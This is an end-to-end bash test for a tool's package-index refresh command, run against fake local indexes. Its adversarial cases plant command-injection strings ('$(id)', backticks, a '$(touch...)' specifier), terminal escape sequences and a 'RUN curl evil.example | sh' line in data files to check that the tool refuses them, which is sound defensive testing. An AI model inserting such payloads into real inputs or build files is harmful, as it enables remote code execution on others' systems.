#!/usr/bin/env bash
# `torchdock kb refresh` end to end. Usage: kb_refresh_test.sh TORCHDOCK [online]
#  offline (default): no network needed. An unreachable index is an environment error
#    (exit 3) that says only refresh needs the index; render and list still work offline.
#  online: `kb refresh --check` of three releases against PyPI, and `--arch-lists` of one
#    (its wheel's binaries), must find the committed data/torch.json in agreement (exit 0). Exits 77 (CTest's SKIP_RETURN_CODE) with the
#    reason when PyPI cannot be reached.
set -uo pipefail
TD=$(realpath "$1")
MODE=${2:-offline}
ROOT=$(cd "$(dirname "$0")/../.." && pwd)
WORK=$(mktemp -d /tmp/torchdock-kb-XXXXXX)
trap 'rm -rf "$WORK"' EXIT
cd "$ROOT"
source "$ROOT/tests/e2e/lib/check.sh"

if [ "$MODE" = offline ]; then
  cp -r data "$WORK/data"
  # Port 9 (discard) on loopback: nothing listens, the connection is refused at once.
  run kb refresh --check --data "$WORK/data" --index-url http://127.0.0.1:9/simple/
  check "an unreachable index exits 3 (environment)" test "$(rc)" = 3
  check "the error names the index" has err "127.0.0.1:9"
  check "the error says the other commands work offline" has err "work offline"
  check "nothing was written" diff -r data "$WORK/data"
  # The same with no route to any index: render and list never touch the network.
  https_proxy=http://127.0.0.1:9 http_proxy=http://127.0.0.1:9 run render --check
  check "render --check works without a network" test "$(rc)" = 0
  https_proxy=http://127.0.0.1:9 http_proxy=http://127.0.0.1:9 run list
  check "list works without a network" test "$(rc)" = 0
  run kb refresh --check --release 2.11.0 --jobs 0
  check "--jobs 0 is a usage error" test "$(rc)" = 2

  # A local index serving wheels built from the recorded METADATA: torch and torchvision
  # through PEP 658 .metadata files, cuda-toolkit and torchaudio through range reads of
  # their zip directories. Their facts are PyPI's, so --check finds data/torch.json in
  # agreement for 2.11.0.
  python3 "$ROOT/tests/e2e/lib/fake_index.py" "$ROOT/tests/data/pypi" --pep658 torch torchvision \
    >"$WORK/port" 2>"$WORK/index.err" &
  INDEX_PID=$!
  for _ in $(seq 50); do [ -s "$WORK/port" ] && break; sleep 0.1; done
  URL="http://127.0.0.1:$(cat "$WORK/port")/simple/"
  run kb refresh --check --release 2.11.0 --index-url "$URL" --index-name "the test index"
  check "a local index (PEP 658 and range reads) agrees with data/torch.json for 2.11.0" test "$(rc)" = 0
  check "it says which index it read" has err "read 1 torch release from the test index"
  run kb refresh --check --release 2.10.0 --index-url "$URL"
  check "a release the index lacks is a configuration error" test "$(rc)" = 2
  check "the error names the release and what the index has" has err "torch \"2.10.0\" has no final Linux x86_64 release"
  # Writing: a copy of the data without 2.11.0's cuDNN pin gets it back, with its source.
  python3 - "$WORK/data/torch.json" <<'PY'
import json, sys
p = sys.argv[1]
d = json.load(open(p))
for t in d["torch"]:
    if t["version"] == "2.11.0":
        t["variants"]["cu130"]["cudnn"] = "9.17.1.4"
        del t["evidence"]["variants.cu130.cudnn"]
open(p, "w").write(json.dumps(d, indent=2, ensure_ascii=False) + "\n")
PY
  run kb refresh --release 2.11.0 --data "$WORK/data" --index-url "$URL" --index-name "the test index"
  check "refresh writes the corrected fact" test "$(rc)" = 0
  check "refresh prints what changed" has out "variants.cu130.cudnn: 9.17.1.4 -> 9.19.0.56"
  check "the fact carries its wheel and hash" has out "source: the test index torch 2.11.0 wheel torch-2.11.0-cp314-cp314-manylinux_2_28_x86_64.whl (sha256 "
  check "the file holds the fact and its evidence" python3 -c "
import json, sys
t = [r for r in json.load(open('$WORK/data/torch.json'))['torch'] if r['version'] == '2.11.0'][0]
sys.exit(not (t['variants']['cu130']['cudnn'] == '9.19.0.56'
              and t['evidence']['variants.cu130.cudnn'].startswith('the test index torch 2.11.0 wheel')))"
  # The linux/arm64 build, read from the release's aarch64 wheel: a copy without it gets it back.
  python3 - "$WORK/data/torch.json" <<'PY'
import json, sys
p = sys.argv[1]
d = json.load(open(p))
for t in d["torch"]:
    if t["version"] == "2.11.0":
        del t["platforms"]
        for k in [k for k in t["evidence"] if k.startswith("platforms.")]:
            del t["evidence"][k]
open(p, "w").write(json.dumps(d, indent=2, ensure_ascii=False) + "\n")
PY
  run kb refresh --release 2.11.0 --data "$WORK/data" --index-url "$URL" --index-name "the test index"
  check "refresh adds the linux/arm64 build from the aarch64 wheel" \
    has out "platforms.linux/arm64.default_variant: (absent) -> cu130"
  check "...cited by that wheel and its hash" \
    has out "source: the test index torch 2.11.0 wheel torch-2.11.0-cp314-cp314-manylinux_2_28_aarch64.whl (sha256 "
  check "...and the file holds its CUDA and cuDNN" python3 -c "
import json, sys
t = [r for r in json.load(open('$WORK/data/torch.json'))['torch'] if r['version'] == '2.11.0'][0]
a = t['platforms']['linux/arm64']
sys.exit(not (a['default_variant'] == 'cu130' and a['glibc'] == '2.28' and a['variants']['cu130']['cuda'] == '13.0'
              and a['variants']['cu130']['cudnn'] == '9.19.0.56'))"
  check "a refresh that wrote facts dates the knowledge base today (UTC)" \
    grep -q "\"date\": \"$(date -u +%F)\"" "$WORK/data/knowledge_base.json"
  TORCHDOCK_DATA="$WORK/data" run --version
  check "--version shows that date" has out "knowledge base $(date -u +%F))"
  kill "$INDEX_PID" 2>/dev/null

  # Arch lists from the binaries: a test index whose torch wheels hold an nvcc-built object
  # (sass_ptx.o: sm_75, sm_80 and compute_80) as torch/lib/libtorch_cuda.so, inside 4.5 MB of
  # other bytes. Off by default; --arch-lists reads it with range requests.
  python3 "$ROOT/tests/e2e/lib/fake_index.py" "$ROOT/tests/data/pypi" \
    --cuda-lib "$ROOT/tests/data/kernels/sass_ptx.o" --pep658 torch torchvision \
    >"$WORK/port2" 2>"$WORK/index2.err" &
  INDEX_PID=$!
  hasnt() { ! has "$@"; }
  for _ in $(seq 100); do [ -s "$WORK/port2" ] && break; sleep 0.1; done
  URL="http://127.0.0.1:$(cat "$WORK/port2")/simple/"
  cp -r data "$WORK/data2"
  run kb refresh --check --release 2.11.0 --data "$WORK/data2" --index-url "$URL"
  check "without --arch-lists the binaries are not read (data agrees)" test "$(rc)" = 0
  check "without --arch-lists no arch list is reported" hasnt err "fatbin containers"
  run kb refresh --check --arch-lists --release 2.11.0 --data "$WORK/data2" --index-url "$URL" \
    --index-name "the test index"
  check "--arch-lists --check reports the disagreeing arch list (exit 1)" test "$(rc)" = 1
  check "the arch list read is 7.5;8.0+PTX" has out "variants.cu130.arch_list: [7.5, 8.0, 8.6, 9.0, 10.0, 12.0] -> [7.5, 8.0+PTX]"
  check "its source names wheel, hash, targets and member" has out "source: the test index torch 2.11.0 wheel torch-2.11.0-cp314-cp314-manylinux_2_28_x86_64.whl (sha256 "
  check "... and what the fatbins hold" has out "): SASS sm_75 sm_80 and PTX compute_80, in the only fatbin container, from torch/lib/libtorch_cuda.so"
  check "it says what the reading cost and that it stopped early" has err "arch list 7.5;8.0+PTX from torch/lib/libtorch_cuda.so in torch-2.11.0-cp314-cp314-manylinux_2_28_x86_64.whl: 1 fatbin container;"
  check "the reading stopped where the containers end" has err "(stopped where the containers end)"
  check "--check wrote nothing" diff -r data "$WORK/data2"
  run kb refresh --arch-lists --release 2.11.0 --data "$WORK/data2" --index-url "$URL" \
    --index-name "the test index"
  check "refresh --arch-lists writes the arch list" test "$(rc)" = 0
  check "the file holds the arch list and its evidence" python3 -c "
import json, sys
t = [r for r in json.load(open('$WORK/data2/torch.json'))['torch'] if r['version'] == '2.11.0'][0]
ev = t['evidence']['variants.cu130.arch_list']
sys.exit(not (t['variants']['cu130']['arch_list'] == ['7.5', '8.0+PTX']
              and ev.startswith('the test index torch 2.11.0 wheel torch-2.11.0-cp314')
              and ev.endswith('from torch/lib/libtorch_cuda.so')))"
  # Extension facts (kb refresh --extensions): the same test index's xformers wheel, read by
  # range: its METADATA's pin on torch, and the GPU targets of each shared object in it
  # (xformers/_C.so is sass_ptx.o; xformers/_helpers.so has no GPU code and is not listed).
  cp -r data "$WORK/data3"
  python3 - "$WORK/data3/extensions.json" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
d["extensions"] = [{"name": "xformers", "index": "PyPI", "track": ["0.0.33.post2"], "releases": []}]
open(sys.argv[1], "w").write(json.dumps(d, indent=2) + "\n")
PY
  cp "$WORK/data3/extensions.json" "$WORK/ext.before"
  run kb refresh --extensions --arch-lists --data "$WORK/data3" --index-url "$URL"
  check "--extensions with --arch-lists is a usage error (exit 2), before any reading" \
    bash -c "test $(rc) = 2 && grep -q 'give one of them' '$WORK/err'"
  run kb refresh --extensions --check --data "$WORK/data3" --index-url "$URL" --index-name "the test index"
  check "--extensions --check: a tracked release not read yet is a difference (exit 1), nothing written" \
    bash -c "test $(rc) = 1 && cmp -s '$WORK/data3/extensions.json' '$WORK/ext.before'"
  run kb refresh --extensions --data "$WORK/data3" --index-url "$URL" --index-name "the test index"
  check "--extensions: exit 0, the release is new" bash -c "test $(rc) = 0 && grep -q 'xformers 0.0.33.post2: new' '$WORK/out'"
  check "--extensions: it says what each object holds and what the reading cost" \
    has err "xformers/_C.so: 1 fatbin containers, sm_75 sm_80 compute_80; read"
  check "the facts: torch==2.9.1 from the METADATA, _C.so's targets, no entry for the object without GPU code, the wheel cited" python3 -c "
import json, sys
r = json.load(open('$WORK/data3/extensions.json'))['extensions'][0]['releases'][0]
ok = (r['requires_torch'] == '==2.9.1' and [o['path'] for o in r['objects']] == ['xformers/_C.so']
      and r['objects'][0]['targets'] == ['sm_75', 'sm_80', 'compute_80']
      and r['source'].startswith('the test index xformers 0.0.33.post2 wheel xformers-0.0.33.post2-cp39-abi3'))
print(r); sys.exit(0 if ok else 1)"
  run kb refresh --extensions --check --data "$WORK/data3" --index-url "$URL" --index-name "the test index"
  check "--extensions --check after the refresh: the data agrees (exit 0)" test "$(rc)" = 0
  # With only this release known, pypi-cuda's torch 2.8.0 variant has no xformers that fits.
  TORCHDOCK_DATA="$WORK/data3" run render --check
  check "render with the refreshed facts refuses torch 2.8.0's xformers, naming the release it knows" \
    bash -c "test $(rc) = 2 && grep -q 'no release of xformers in the knowledge base fits torch 2.8.0 of variant pypi-cuda-2.8.0-cu128-debian12: 0.0.33.post2 (torch==2.9.1)' '$WORK/err'"
  kill "$INDEX_PID" 2>/dev/null

  # A library whose fatbin is cut short (the object's first 2000 bytes of .nv_fatbin, then
  # random bytes): an error naming the wheel, the member and the offset; nothing written.
  python3 - "$ROOT/tests/data/kernels/sass_ptx.o" "$WORK/cut.o" <<'PY'
import struct, sys
b = open(sys.argv[1], "rb").read()
shoff, = struct.unpack_from("<Q", b, 40); n, = struct.unpack_from("<H", b, 60)
stridx, = struct.unpack_from("<H", b, 62)
names_at, = struct.unpack_from("<Q", b, shoff + stridx * 64 + 24)
for i in range(n):
    h = shoff + i * 64
    name_off, = struct.unpack_from("<I", b, h)
    name = b[names_at + name_off:b.index(b"\0", names_at + name_off)]
    if name == b".nv_fatbin":
        off, = struct.unpack_from("<Q", b, h + 24)
        open(sys.argv[2], "wb").write(b[:off + 200])
PY
  python3 "$ROOT/tests/e2e/lib/fake_index.py" "$ROOT/tests/data/pypi" \
    --cuda-lib "$WORK/cut.o" --pep658 torch torchvision >"$WORK/port3" 2>"$WORK/index3.err" &
  INDEX_PID=$!
  for _ in $(seq 100); do [ -s "$WORK/port3" ] && break; sleep 0.1; done
  URL="http://127.0.0.1:$(cat "$WORK/port3")/simple/"
  run kb refresh --arch-lists --release 2.11.0 --data "$WORK/data2" --index-url "$URL"
  check "a damaged fatbin is a configuration error (exit 2)" test "$(rc)" = 2
  check "the error names the wheel and the member" has err "torch 2.11.0: torch-2.11.0-cp314-cp314-manylinux_2_28_x86_64.whl: torch/lib/libtorch_cuda.so: "
  check "the file was left as it was" python3 -c "
import json, sys
t = [r for r in json.load(open('$WORK/data2/torch.json'))['torch'] if r['version'] == '2.11.0'][0]
sys.exit(t['variants']['cu130']['arch_list'] != ['7.5', '8.0+PTX'])"
  kill "$INDEX_PID" 2>/dev/null

  # Hostile indexes (adversarial round 2, N5-N7). start_index NAME ARGS...: a fake index in
  # the background; its URL in $URL, its pid in $INDEX_PID.
  start_index() {
    local name=$1; shift
    python3 "$ROOT/tests/e2e/lib/fake_index.py" "$ROOT/tests/data/pypi" "$@" --pep658 torch torchvision \
      >"$WORK/port-$name" 2>"$WORK/index-$name.err" &
    INDEX_PID=$!
    for _ in $(seq 100); do [ -s "$WORK/port-$name" ] && break; sleep 0.1; done
    URL="http://127.0.0.1:$(cat "$WORK/port-$name")/simple/"
  }
  # torch METADATA with one line replaced: md NAME OLD NEW
  md() { python3 -c 'import sys; t = open(sys.argv[1]).read(); assert sys.argv[2] in t
open(sys.argv[4], "w").write(t.replace(sys.argv[2], sys.argv[3]))' \
      "$ROOT/tests/data/pypi/torch-2.11.0.METADATA" "$2" "$3" "$WORK/$1.md"; }
  field() { python3 -c "
import json, sys
t = [r for r in json.load(open('$1/torch.json'))['torch'] if r['version'] == '2.11.0'][0]
print(t['variants']['cu130']['$2'])"; }

  # N5: an arbitrary-equality (===) cuDNN requirement with quotes, $() and backticks is no
  # fact: reported as not pinned, never written.
  md arbitrary "nvidia-cudnn-cu13==9.19.0.56" 'nvidia-cudnn-cu13===9.19"$(id)`id`'
  start_index arbitrary --torch-metadata "$WORK/arbitrary.md"
  cp -r data "$WORK/data5"
  run kb refresh --release 2.11.0 --data "$WORK/data5" --index-url "$URL"
  check "N5: an === pin is not a fact (exit 0, nothing to write)" test "$(rc)" = 0
  check "N5: it is reported as not pinned" has err "variants.cu130.cudnn: nvidia-cudnn-cu13===9.19"
  check "N5: ... with the reason" has err "is not pinned (only ==VERSION"
  check "N5: the data keeps its cuDNN" test "$(field "$WORK/data5" cudnn)" = 9.19.0.56
  check "N5: data unchanged" diff -r data "$WORK/data5" -x .torchdock-kb.lock
  kill "$INDEX_PID" 2>/dev/null
  # The same with an ESC sequence and an RLO: the requirement does not even parse; nothing
  # raw reaches the terminal and nothing is written.
  md controls "nvidia-cudnn-cu13==9.19.0.56" \
    $'nvidia-cudnn-cu13===9.19"$(id)`id`\e]0;PWN\a\u202e'
  start_index controls --torch-metadata "$WORK/controls.md"
  cp -r data "$WORK/data5c"
  run kb refresh --release 2.11.0 --data "$WORK/data5c" --index-url "$URL"
  check "N5: no raw ESC or RLO reaches the terminal" python3 -c "
import sys; b = open('$WORK/err', 'rb').read() + open('$WORK/out', 'rb').read()
sys.exit(b'\x1b' in b or '\u202e'.encode() in b)"
  check "N5: with controls the data is unchanged" diff -r data "$WORK/data5c" -x .torchdock-kb.lock
  kill "$INDEX_PID" 2>/dev/null

  # N6: METADATA whose Version is not the wheel's: the wheel is refused with a clear message.
  md mismatch "Version: 2.11.0" "Version: 2.10.0"
  start_index mismatch --torch-metadata "$WORK/mismatch.md"
  run kb refresh --release 2.11.0 --data "$WORK/data5" --index-url "$URL"
  check "N6: METADATA of another version refuses the wheel (exit 2)" test "$(rc)" = 2
  check "N6: the message names the wheel and both versions" has err 'says version "2.10.0", not "2.11.0"; wheel refused'
  check "N6: data unchanged" diff -r data "$WORK/data5" -x .torchdock-kb.lock
  kill "$INDEX_PID" 2>/dev/null

  # N7: two runs at once on one data directory, A's index changing cuDNN and B's NCCL (every
  # answer delayed so they overlap). Each index also states the other field, so the file ends
  # as one run applied after the other: whichever ran last re-read the file under the lock
  # and reports that it changed the first one's value; nothing is lost silently.
  md cudnn "nvidia-cudnn-cu13==9.19.0.56" "nvidia-cudnn-cu13==9.19.0.57"
  md nccl "nvidia-nccl-cu13==2.28.9" "nvidia-nccl-cu13==2.28.10"
  start_index a --torch-metadata "$WORK/cudnn.md" --delay 0.2; URL_A=$URL; PID_A=$INDEX_PID
  start_index b --torch-metadata "$WORK/nccl.md" --delay 0.2; URL_B=$URL; PID_B=$INDEX_PID
  cp -r data "$WORK/data7"
  "$TD" kb refresh --release 2.11.0 --data "$WORK/data7" --index-url "$URL_A" >"$WORK/a.out" 2>"$WORK/a.err" &
  RUN_A=$!
  "$TD" kb refresh --release 2.11.0 --data "$WORK/data7" --index-url "$URL_B" >"$WORK/b.out" 2>"$WORK/b.err"
  RC_B=$?
  wait "$RUN_A"; RC_A=$?
  check "N7: both concurrent runs succeed" test "$RC_A$RC_B" = 00
  final="$(field "$WORK/data7" cudnn) $(field "$WORK/data7" nccl)"
  if [ "$final" = "9.19.0.56 2.28.10" ]; then
    check "N7: B ran last on A's file ($final) and reports undoing A's cuDNN" \
      grep -q "9.19.0.57 -> 9.19.0.56" "$WORK/b.out" "$WORK/b.err"
  else
    check "N7: A ran last on B's file ($final) and reports undoing B's NCCL" \
      bash -c "[ '$final' = '9.19.0.57 2.28.9' ] && grep -q '2.28.10 -> 2.28.9' '$WORK/a.out' '$WORK/a.err'"
  fi
  # A lock held elsewhere: a bounded wait, then a clear error naming the lock; nothing written.
  cp -r data "$WORK/data7b"
  flock "$WORK/data7b/.torchdock-kb.lock" sleep 30 &
  HOLDER=$!
  sleep 0.5
  run kb refresh --release 2.11.0 --data "$WORK/data7b" --index-url "$URL_A" --lock-wait 1
  check "N7: a held lock ends the run after --lock-wait (exit 3)" test "$(rc)" = 3
  check "N7: the error names the lock file" has err "data7b/.torchdock-kb.lock"
  check "N7: it said it was waiting" has err "waiting for the lock"
  check "N7: nothing was written" test "$(field "$WORK/data7b" cudnn)" = 9.19.0.56
  kill "$HOLDER" "$PID_A" "$PID_B" 2>/dev/null

  # R3-10 (adversarial round 3): kb refresh --extensions writes nothing its own loader would
  # refuse. Variants of the report's repro: a member name with a tab and a clear-screen
  # sequence (the release was known: its facts are kept), and a Requires-Dist on torch with a
  # quote and $() (the release is new: it stays out). Each release is named with the reason,
  # exit 1, nothing raw reaches the terminal, and every command still loads the data.
  no_raw() { python3 -c "
import sys; b = open('$WORK/err', 'rb').read() + open('$WORK/out', 'rb').read()
sys.exit(b'\x1b' in b or b'\t' in b)"; }
  start_index members --cuda-lib "$ROOT/tests/data/kernels/sass_ptx.o" \
    --xformers-member '"xformers/\tlib\x1b[2J.so"'
  cp -r "$WORK/data3" "$WORK/data10a"
  cp "$WORK/data10a/extensions.json" "$WORK/ext10a.before"
  run kb refresh --extensions --data "$WORK/data10a" --index-url "$URL" --index-name "the test index"
  check "R3-10: a member name with a tab and ESC: the release is refused (exit 1, was $(rc))" test "$(rc)" = 1
  check "R3-10: ...named, with the loader's reason, its previous facts kept" \
    has err 'refused what the index says of xformers 0.0.33.post2: $.release.objects[1].path: "xformers/\tlib\x1b[2J.so" refused: control character'
  check "R3-10: ...said as kept" has err "(its previous facts are kept)"
  check "R3-10: no raw tab or ESC reaches the terminal" no_raw
  check "R3-10: the file is as it was" cmp -s "$WORK/data10a/extensions.json" "$WORK/ext10a.before"
  mkdir -p "$WORK/m10" && cp manifests/debian-cpu.json "$WORK/m10/"
  run list --data "$WORK/data10a" --manifests "$WORK/m10"
  check "R3-10: every command still loads the data (list exit $(rc))" test "$(rc)" = 0
  kill "$INDEX_PID" 2>/dev/null
  python3 -c 'import sys; t = open(sys.argv[1]).read(); assert "Requires-Dist: torch==2.9.1" in t
open(sys.argv[2], "w").write(t.replace("Requires-Dist: torch==2.9.1", "Requires-Dist: torch===2.9.1\"$(touch${IFS}/tmp/td-r3-10)'"'"'"))' \
    "$ROOT/tests/data/pypi/xformers-0.0.33.post2.METADATA" "$WORK/xformers-hostile.md"
  start_index specifier --cuda-lib "$ROOT/tests/data/kernels/sass_ptx.o" \
    --xformers-metadata "$WORK/xformers-hostile.md"
  cp -r data "$WORK/data10b"
  python3 - "$WORK/data10b/extensions.json" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
d["extensions"] = [{"name": "xformers", "index": "the test index", "track": ["0.0.33.post2"], "releases": []}]
open(sys.argv[1], "w").write(json.dumps(d, indent=2) + "\n")
PY
  run kb refresh --extensions --data "$WORK/data10b" --index-url "$URL" --index-name "the test index"
  check "R3-10: a hostile Requires-Dist on torch: the release is refused (exit 1, was $(rc))" test "$(rc)" = 1
  check "R3-10: ...named with the specifier's grammar and left out" \
    bash -c "grep -qF 'xformers 0.0.33.post2: \$.release.requires_torch:' '$WORK/err' && grep -qF '(it stays out of the file)' '$WORK/err'"
  check "R3-10: nothing of the specifier is in the file, and it has no release" python3 -c "
import json, sys
t = open('$WORK/data10b/extensions.json').read()
sys.exit('touch' in t or json.loads(t)['extensions'][0]['releases'] != [])"
  run list --data "$WORK/data10b" --manifests "$WORK/m10"
  check "R3-10: every command still loads the data (list exit $(rc))" test "$(rc)" = 0
  run kb refresh --extensions --check --data "$WORK/data10b" --index-url "$URL" --index-name "the test index"
  check "R3-10: --check says the same, exit 1, nothing written" \
    bash -c "test $(rc) = 1 && grep -q 'refused what the index says of xformers 0.0.33.post2' '$WORK/err'"
  kill "$INDEX_PID" 2>/dev/null

  # N11: render refuses a data directory whose os.json image carries an instruction.
  cp -r data "$WORK/data11"
  python3 - "$WORK/data11/os.json" <<'PY'
import json, sys
p = sys.argv[1]; d = json.load(open(p))
for o in d["os"]:
    if o["id"] == "debian12":
        o["image"] = "debian:bookworm\nRUN curl evil.example | sh #"
json.dump(d, open(p, "w"), indent=1)
PY
  run render --check --data "$WORK/data11"
  check "N11: render refuses an edited data dir (exit 2)" test "$(rc)" = 2
  check "N11: the error names file, JSON path and value" has err 'os.json: $.os[3].image: "debian:bookworm\nRUN curl evil.example | sh #" refused'
  finish
  exit $?
fi

run kb refresh --check --release 1.13.1 --release 2.11.0 --release 2.15.0
if [ "$(rc)" = 3 ]; then
  echo "skip - PyPI cannot be reached: $(tail -1 "$WORK/err")"
  exit 77
fi
check "kb refresh --check of 1.13.1, 2.11.0, 2.15.0 agrees with PyPI (exit 0)" test "$(rc)" = 0
check "it read three releases from PyPI" has err "read 3 torch releases from PyPI"
check "it reports no differing fact" has err "0 facts differ"
if [ "$(rc)" != 0 ]; then cat "$WORK/out" "$WORK/err"; fi
# One real wheel's binaries: 2.11.0's libtorch_cuda.so (about 320 MB of range reads).
run kb refresh --check --arch-lists --release 2.11.0
check "--arch-lists: 2.11.0's arch list from its binaries agrees with the data (exit 0)" test "$(rc)" = 0
check "--arch-lists: the list read is 7.5;8.0;8.6;9.0;10.0;12.0" has err "arch list 7.5;8.0;8.6;9.0;10.0;12.0 from torch/lib/libtorch_cuda.so in torch-2.11.0-"
check "--arch-lists: it stopped where the containers end" has err "(stopped where the containers end)"
if [ "$(rc)" != 0 ]; then cat "$WORK/out" "$WORK/err"; fi
finish
